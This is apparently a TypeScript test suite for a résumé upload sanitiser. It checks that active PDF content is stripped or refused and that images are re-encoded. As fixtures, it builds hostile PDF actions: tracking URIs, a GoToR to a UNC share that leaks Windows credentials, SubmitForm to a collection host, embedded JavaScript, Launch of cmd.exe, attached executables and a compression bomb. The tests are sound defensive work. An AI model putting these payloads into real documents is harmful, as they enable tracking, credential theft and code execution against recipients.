import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFString, type PDFPage } from 'pdf-lib';
import { AppError } from '../../plugins/errors';
import { prepareResume } from './resume-check';
import { builtPdf, objectStream, pdf, pdfDictionaries, streamObject } from './careers-test-helpers';

const text = (value: string) => PDFString.of(value);

/** The error code `prepareResume` refuses `data` with, or null when it accepts it. */
async function refusal(data: Buffer): Promise<{ status: number; code: string } | null> {
  try {
    await prepareResume(data);
    return null;
  } catch (error) {
    if (!(error instanceof AppError)) throw error;
    return { status: error.statusCode, code: error.code };
  }
}

/** What pdf-lib's `context.obj` takes (its type is not exported). */
type Literal = NonNullable<Parameters<PDFDocument['context']['stream']>[1]>;

function addAnnotation(document: PDFDocument, page: PDFPage, annotation: Literal) {
  const { context } = document;
  const ref = context.register(context.obj({ Type: 'Annot', Rect: [72, 600, 300, 620], ...annotation }));
  const existing = page.node.lookup(PDFName.of('Annots'));
  if (existing instanceof PDFArray) existing.push(ref);
  else page.node.set(PDFName.of('Annots'), context.obj([ref]));
}

const unreadable = { status: 415, code: 'RESUME_PDF_UNREADABLE' };

describe('résumé PDFs are stored rewritten without active content (decision 240)', () => {
  const cases: {
    name: string;
    decorate: (document: PDFDocument, page: PDFPage) => void | Promise<void>;
    gone: RegExp;
  }[] = [
    {
      name: 'an /OpenAction URI that tracks the opening',
      decorate: (d) =>
        d.catalog.set(
          PDFName.of('OpenAction'),
          d.context.obj({ S: 'URI', URI: text('https://track.example/open?cv=1') }),
        ),
      gone: /\/OpenAction|\/URI|track\.example/,
    },
    {
      name: 'an /OpenAction GoToR to a UNC share (leaks Windows credentials)',
      decorate: (d) =>
        d.catalog.set(
          PDFName.of('OpenAction'),
          d.context.obj({ S: 'GoToR', F: text('\\\\203.0.113.9\\share\\cv.pdf'), D: [0, 'Fit'] }),
        ),
      gone: /\/OpenAction|\/GoToR|203\.0\.113\.9/,
    },
    {
      name: 'an /OpenAction ImportData, as an indirect object',
      decorate: (d) =>
        d.catalog.set(
          PDFName.of('OpenAction'),
          d.context.register(d.context.obj({ S: 'ImportData', F: text('\\\\203.0.113.9\\d.fdf') })),
        ),
      gone: /\/OpenAction|\/ImportData|203\.0\.113\.9/,
    },
    {
      name: 'document and page /AA with SubmitForm and JavaScript',
      decorate: (d, page) => {
        d.catalog.set(
          PDFName.of('AA'),
          d.context.obj({
            WC: { S: 'SubmitForm', F: { FS: 'URL', F: text('https://collect.example/') }, Flags: 4 },
          }),
        );
        page.node.set(PDFName.of('AA'), d.context.obj({ O: { S: 'JavaScript', JS: text('app.alert(1)') } }));
      },
      gone: /\/AA|\/SubmitForm|\/JavaScript|\/JS|collect\.example/,
    },
    {
      name: 'link annotations with URI, Launch, GoToE, Rendition, Sound, Hide and Named actions',
      decorate: (d, page) => {
        const actions = [
          { S: 'URI', URI: text('https://track.example/click') },
          { S: 'Launch', F: text('cmd.exe'), Win: { F: text('cmd.exe'), P: text('/c calc') } },
          { S: 'GoToE', D: [0, 'Fit'], T: { R: 'C', N: text('payload.pdf') } },
          { S: 'Rendition', OP: 0 },
          { S: 'Sound', Sound: d.context.register(d.context.stream('', { R: 8000 })) },
          { S: 'Hide', T: text('field') },
          { S: 'Named', N: 'Print' },
        ];
        for (const action of actions) addAnnotation(d, page, { Subtype: 'Link', A: action });
      },
      gone: /\/A\b|\/URI|\/Launch|\/GoToE|\/Rendition|\/Sound|\/Hide|\/Named|cmd\.exe|track\.example/,
    },
    {
      name: 'a URI action that names another /Type and holds its /S through a reference',
      decorate: (d, page) =>
        addAnnotation(d, page, {
          Subtype: 'Link',
          A: {
            Type: 'Whatever',
            S: d.context.register(PDFName.of('URI')),
            URI: text('https://track.example/t'),
          },
        }),
      gone: /\/A\b|\/URI|track\.example/,
    },
    {
      name: 'a JavaScript name tree',
      decorate: (d) =>
        d.catalog.set(
          PDFName.of('Names'),
          d.context.obj({
            JavaScript: { Names: [text('init'), { S: 'JavaScript', JS: text('app.launchURL("x")') }] },
          }),
        ),
      gone: /\/JavaScript|\/JS|launchURL/,
    },
    {
      name: 'an attached file and a file attachment annotation',
      decorate: async (d, page) => {
        await d.attach(Buffer.from('MZ payload'), 'payload.exe', { mimeType: 'application/octet-stream' });
        const file = d.context.register(d.context.stream('MZ', { Type: 'EmbeddedFile' }));
        addAnnotation(d, page, {
          Subtype: 'FileAttachment',
          FS: { Type: 'Filespec', F: text('tool.exe'), EF: { F: file } },
        });
      },
      gone: /\/EmbeddedFiles?|\/EF\b|\/FileAttachment|payload\.exe|tool\.exe/,
    },
    {
      name: 'an XFA form',
      decorate: (d) =>
        d.catalog.set(
          PDFName.of('AcroForm'),
          d.context.obj({
            Fields: [],
            XFA: d.context.register(d.context.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')),
          }),
        ),
      gone: /\/XFA/,
    },
    {
      name: 'a rich media annotation',
      decorate: (d, page) =>
        addAnnotation(d, page, { Subtype: 'RichMedia', RichMediaContent: { Assets: { Names: [] } } }),
      gone: /\/RichMedia/,
    },
    {
      name: 'a Launch chained after an in-document GoTo',
      decorate: (d, page) =>
        d.catalog.set(
          PDFName.of('OpenAction'),
          d.context.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: { S: 'Launch', F: text('calc.exe') } }),
        ),
      gone: /\/Launch|\/Next|calc\.exe/,
    },
  ];

  for (const { name, decorate, gone } of cases)
    it(`removes ${name}`, async () => {
      const original = await builtPdf(decorate);
      expect(await pdfDictionaries(original)).toMatch(gone);
      const { data, contentType } = await prepareResume(original);
      expect(contentType).toBe('application/pdf');
      expect(await pdfDictionaries(data)).not.toMatch(gone);
      expect(data.toString('latin1')).not.toMatch(gone);
      const document = await PDFDocument.load(data);
      expect(document.getPageCount()).toBe(1);
    });

  it('finds actions that a byte search cannot see: inside a deflated object stream', async () => {
    const original = await builtPdf((d) =>
      d.catalog.set(
        PDFName.of('OpenAction'),
        d.context.obj({ S: 'URI', URI: text('https://track.example/open') }),
      ),
    );
    expect(original.toString('latin1')).not.toContain('OpenAction');
    const { data } = await prepareResume(original);
    expect(await pdfDictionaries(data)).not.toMatch(/OpenAction|track\.example/);
  });

  it('reads object streams under every filter chain pdf-lib decodes (hex, then Flate)', async () => {
    const original = pdf({
      catalogExtra: '/OpenAction 7 0 R',
      extraObjects: [
        objectStream({ 7: '<< /S /Launch /F (calc.exe) >>' }, '[/ASCIIHexDecode /FlateDecode]', (plain) =>
          Buffer.from(`${deflateSync(plain).toString('hex')}>`, 'latin1'),
        ),
      ],
    });
    expect(await pdfDictionaries(original)).toMatch(/\/Launch/);
    const { data } = await prepareResume(original);
    expect(await pdfDictionaries(data)).not.toMatch(/\/OpenAction|\/Launch|calc\.exe/);
  });

  it('keeps what a résumé needs: its pages, text and in-document links', async () => {
    const original = await builtPdf((d, page) => {
      addAnnotation(d, page, { Subtype: 'Link', A: { S: 'GoTo', D: [page.ref, 'Fit'] } });
      d.setTitle('Léa Tremblay — CV');
    });
    const { data } = await prepareResume(original);
    const document = await PDFDocument.load(data);
    expect(document.getTitle()).toBe('Léa Tremblay — CV');
    const [page] = document.getPages();
    const annotations = page!.node.lookup(PDFName.of('Annots'), PDFArray);
    const link = annotations.lookup(0, PDFDict);
    expect(link.lookup(PDFName.of('A'), PDFDict).get(PDFName.of('S'))).toBe(PDFName.of('GoTo'));
    expect(page!.node.Contents()).toBeDefined();
  });

  it('refuses an action it does not know how to remove rather than passing it on', async () => {
    const original = pdf({
      catalogExtra: '/Unusual 6 0 R',
      extraObjects: ['<< /S /Launch /F (calc.exe) >>'],
    });
    expect(await refusal(original)).toEqual({ status: 415, code: 'RESUME_PDF_UNSAFE' });
  });

  it('refuses truncated, damaged and encrypted PDFs', async () => {
    const whole = await builtPdf();
    const half = whole.subarray(0, Math.floor(whole.length / 2));
    expect(await refusal(half)).toEqual(unreadable);
    expect(await refusal(Buffer.concat([half, Buffer.from('\n%%EOF\n')]))).toEqual(unreadable);
    const handWritten = pdf();
    expect(await refusal(handWritten.subarray(0, handWritten.indexOf('xref')))).toEqual(unreadable);
    // An ending that points nowhere, and a structure with no page at all.
    expect(
      await refusal(
        Buffer.from(handWritten.toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999')),
      ),
    ).toEqual(unreadable);
    const pageless =
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n';
    const noPages = Buffer.from(
      `${pageless}xref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n${pageless.length}\n%%EOF\n`,
      'latin1',
    );
    expect(await refusal(noPages)).toEqual(unreadable);
    const garbage = Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      Buffer.from(Array.from({ length: 4000 }, (_v, i) => (i * 7919) % 251)),
    ]);
    expect(await refusal(garbage)).toEqual(unreadable);
    const encrypted = pdf({
      trailerExtra: '/Encrypt 6 0 R',
      extraObjects: ['<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'],
    });
    expect(await refusal(encrypted)).toEqual(unreadable);
  });

  it('answers nesting too deep to walk with a refusal, never a crash', async () => {
    const deep = pdf({ catalogExtra: `/Deep ${'['.repeat(50_000)}${']'.repeat(50_000)}` });
    expect([null, unreadable]).toContainEqual(await refusal(deep));
  });

  it('reads objects once each: headers inside a long string do not make the checks quadratic', async () => {
    const count = 250_000;
    const string = `(${'1 0 obj ('.repeat(count)}${')'.repeat(count + 1)}`;
    expect(await refusal(pdf({ extraObjects: [string] }))).toBeNull();
    expect(await refusal(pdf({ extraObjects: [string.slice(0, -1)] }))).toEqual(unreadable);
  });

  it('refuses an object stream under a filter the parser cannot decode', async () => {
    const original = pdf({
      catalogExtra: '/OpenAction 7 0 R',
      extraObjects: [objectStream({ 7: '<< /S /Launch /F (calc.exe) >>' }, '/DCTDecode', (plain) => plain)],
    });
    expect(await refusal(original)).toEqual(unreadable);
  });

  it('refuses a compression bomb in an object stream without inflating it', async () => {
    const bomb = deflateSync(Buffer.alloc(40 * 1024 * 1024, 0x20));
    const original = pdf({
      extraObjects: [streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)],
    });
    expect(await refusal(original)).toEqual({ status: 415, code: 'RESUME_PDF_UNSAFE' });
  });
});

describe('résumé images are re-encoded (decision 240)', () => {
  const picture = () =>
    sharp({ create: { width: 40, height: 30, channels: 3, background: { r: 200, g: 30, b: 30 } } });

  it('keeps no EXIF in a JPEG, GPS position included', async () => {
    const original = await picture()
      .jpeg()
      .withExif({
        IFD0: { Make: 'PhoneMaker', Copyright: 'Léa' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '45/1 30/1 0/1' },
      })
      .toBuffer();
    expect((await sharp(original).metadata()).exif?.toString('latin1')).toContain('PhoneMaker');
    const { data, contentType, extension } = await prepareResume(original);
    expect({ contentType, extension }).toEqual({ contentType: 'image/jpeg', extension: 'jpg' });
    const metadata = await sharp(data).metadata();
    expect(metadata).toMatchObject({ format: 'jpeg', width: 40, height: 30 });
    expect(metadata.exif).toBeUndefined();
    expect(data.toString('latin1')).not.toMatch(/PhoneMaker|Exif/);
  });

  it('stores a PNG without the ZIP appended to it', async () => {
    const png = await picture().png().toBuffer();
    const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.from('secret.txt payload')]);
    const { data, contentType } = await prepareResume(Buffer.concat([png, zip]));
    expect(contentType).toBe('image/png');
    expect(await sharp(data).metadata()).toMatchObject({ format: 'png', width: 40, height: 30 });
    expect(data.includes(Buffer.from('PK\x03\x04', 'latin1'))).toBe(false);
    expect(data.toString('latin1')).not.toContain('secret.txt');
  });

  it('refuses an image that does not decode', async () => {
    const png = await picture().png().toBuffer();
    expect(await refusal(Buffer.concat([png.subarray(0, 40), Buffer.alloc(200, 7)]))).toEqual({
      status: 415,
      code: 'RESUME_IMAGE_UNREADABLE',
    });
  });
});
